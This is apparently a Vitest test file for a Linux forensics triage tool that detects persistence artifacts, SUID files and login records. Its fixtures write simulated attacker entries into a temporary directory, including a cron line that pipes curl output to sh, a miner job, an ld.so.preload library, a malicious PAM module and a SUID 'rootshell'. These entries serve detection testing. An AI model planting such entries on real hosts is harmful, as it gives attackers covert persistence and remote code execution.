import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync, utimesSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { encodeUtmp, parseUtmp } from './utmp.js';
import { persistence, suidFiles } from './triage-persistence.js';
import { fitSnapshot, tailFile, takeTriage } from './triage.js';
import { forensicsOptions } from './options.js';

let root: string;

beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'vigil-triage-'));
  const w = (p: string, body: string, mode = 0o644) => {
    mkdirSync(join(root, p, '..'), { recursive: true });
    writeFileSync(join(root, p), body);
    chmodSync(join(root, p), mode);
  };
  w('etc/crontab', '* * * * * root /tmp/.x/miner\n');
  w('etc/cron.d/backdoor', '@reboot root curl http://x | sh\n');
  w('etc/ld.so.preload', '/lib/libevil.so\n');
  w('etc/systemd/system/new.service', '[Service]\nExecStart=/tmp/x\n');
  w('etc/systemd/system/old.service', '[Service]\n');
  utimesSync(join(root, 'etc/systemd/system/old.service'), new Date(2000, 0, 1), new Date(2000, 0, 1));
  w('home/eve/.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker\n');
  w('home/eve/.bashrc', 'x'.repeat(100));
  w('etc/shadow', 'root:$6$secret$hash:19000:0:99999:7:::\n', 0o640);
  w('etc/pam.d/sshd', 'auth sufficient pam_evil.so\n');
  w('usr/lib/udev/rules.d/50-old.rules', 'KERNEL=="sda"\n');
  utimesSync(join(root, 'usr/lib/udev/rules.d/50-old.rules'), new Date(2000, 0, 1), new Date(2000, 0, 1));
  w('etc/udev/rules.d/99-run.rules', 'ACTION=="add", RUN+="/tmp/x"\n');
  w('tmp/.hidden/rootshell', 'ELF', 0o4755);
  w('tmp/plain', 'ok', 0o755);
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('triage sections', () => {
  it('parses utmp/wtmp records', () => {
    const data = Buffer.concat([
      encodeUtmp({ typeCode: 2, line: '~', user: 'reboot', timeMs: 1_700_000_000_000 }),
      encodeUtmp({ typeCode: 7, pid: 4242, line: 'pts/0', user: 'eve', host: '203.0.113.7', timeMs: 1_700_000_100_250, address: '203.0.113.7' }),
      Buffer.alloc(384),
    ]);
    expect(parseUtmp(data)).toEqual([
      { type: 'boot', pid: 0, line: '~', user: 'reboot', host: '', timeMs: 1_700_000_000_000, address: '' },
      { type: 'user', pid: 4242, line: 'pts/0', user: 'eve', host: '203.0.113.7', timeMs: 1_700_000_100_250, address: '203.0.113.7' },
    ]);
  });

  it('lists persistence locations with hashes and content, recent units only', () => {
    const r = persistence({
      root,
      homes: [{ name: 'eve', uid: 1000, gid: 1000, home: '/home/eve', shell: '/bin/bash' }],
      recentUnitDays: 14,
      maxFiles: 100,
      maxContentBytes: 40,
      nowMs: Date.now(),
    });
    const byPath = new Map(r.files.map((f) => [f.path, f]));
    expect(byPath.get('/etc/crontab')).toMatchObject({ category: 'cron', content: '* * * * * root /tmp/.x/miner\n' });
    expect(byPath.get('/etc/cron.d/backdoor')?.category).toBe('cron');
    expect(byPath.get('/etc/ld.so.preload')).toMatchObject({ category: 'ld_preload', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(byPath.get('/home/eve/.ssh/authorized_keys')?.category).toBe('authorized_keys');
    expect(byPath.get('/home/eve/.bashrc')).toMatchObject({ category: 'profile', contentTruncated: true, content: 'x'.repeat(40) });
    expect(byPath.has('/etc/systemd/system/new.service')).toBe(true);
    expect(byPath.has('/etc/systemd/system/old.service')).toBe(false);
    // Every location of the persistence list: password hashes are hashed, never copied; package-owned old files are left out.
    expect(byPath.get('/etc/shadow')).toMatchObject({ category: 'shadow', content: '', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(byPath.get('/etc/pam.d/sshd')).toMatchObject({ category: 'pam', content: 'auth sufficient pam_evil.so\n' });
    expect(byPath.get('/etc/udev/rules.d/99-run.rules')?.category).toBe('udev');
    expect(byPath.has('/usr/lib/udev/rules.d/50-old.rules')).toBe(false);
    expect(persistence({ root, homes: [], recentUnitDays: 14, maxFiles: 2, maxContentBytes: 0, nowMs: Date.now() })).toMatchObject({ truncated: true });
  });

  it('finds SUID files in writable places, within the walk cap', () => {
    const r = suidFiles(['/tmp'], { root, maxDepth: 4, maxEntries: 100 });
    expect(r.files.map((f) => [f.path, f.mode])).toEqual([['/tmp/.hidden/rootshell', '4755']]);
    expect(suidFiles(['/tmp'], { root, maxDepth: 4, maxEntries: 1 }).truncated).toBe(true);
  });

  it('tails the auth log and escapes control characters', () => {
    writeFileSync(join(root, 'auth.log'), Array.from({ length: 50 }, (_, i) => `line ${i}\x1b[31m`).join('\n') + '\n');
    const t = tailFile(join(root, 'auth.log'), 3, 100)!;
    expect(t.lines).toEqual(['line 47\\x1b[31m', 'line 48\\x1b[31m', 'line 49\\x1b[31m']);
  });

  it('cuts the largest section first to fit the snapshot cap', () => {
    const doc = { processes: { items: Array.from({ length: 1000 }, (_, i) => ({ pid: i, argv: ['x'.repeat(50)] })) }, persistence: { files: [{ a: 1 }] } };
    const { json, cut } = fitSnapshot(doc, 20_000);
    expect(json.length).toBeLessThanOrEqual(20_000);
    expect(cut).toEqual(['processes.items']);
    expect(JSON.parse(json).processes.truncated).toBe(true);
  });

  it('takes a whole snapshot of this host', async () => {
    const o = forensicsOptions.parse({
      triage: { hashMaxBytes: 1024 * 1024 * 1024, suidRoots: [join(root, 'tmp')], authLogPaths: [join(root, 'auth.log')] },
    }).triage;
    const snap = await takeTriage({ options: o, authLogLines: 5, inventory: async () => ({ hostname: 'test-host' }) });
    const doc = JSON.parse(snap.json);
    expect(doc.processes.items.some((p: { pid: number; sha256: string }) => p.pid === process.pid && /^[0-9a-f]{64}$/.test(p.sha256))).toBe(true);
    expect(doc.processes.items[0].depth).toBe(0);
    expect(doc.authLog.lines).toHaveLength(5);
    expect(doc.suid.files[0].path).toBe(join(root, 'tmp/.hidden/rootshell'));
    expect(doc.inventory.hostname).toBe('test-host');
    expect(snap.summary).toMatchObject({ authLogLines: 5, suidFiles: 1 });
  });
});

describe('auth log tail', () => {
  it('escapes control, C1 and bidi characters the way the log sensor does, and caps long lines', () => {
    const dir = mkdtempSync(join(tmpdir(), 'vigil-tail-'));
    try {
      const path = join(dir, 'auth.log');
      writeFileSync(path, `ok line\nesc \x1b[31m red \u0085 c1 \u202e bidi\n${'x'.repeat(80)}\n`);
      const tail = tailFile(path, 10, 60)!;
      expect(tail.lines[0]).toBe('ok line');
      expect(tail.lines[1]).toBe('esc \\x1b[31m red \\x85 c1 \\u{202e} bidi');
      expect(tail.lines[2]).toBe(`${'x'.repeat(60)}...`);
      expect(tail.truncatedLines).toBe(1);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
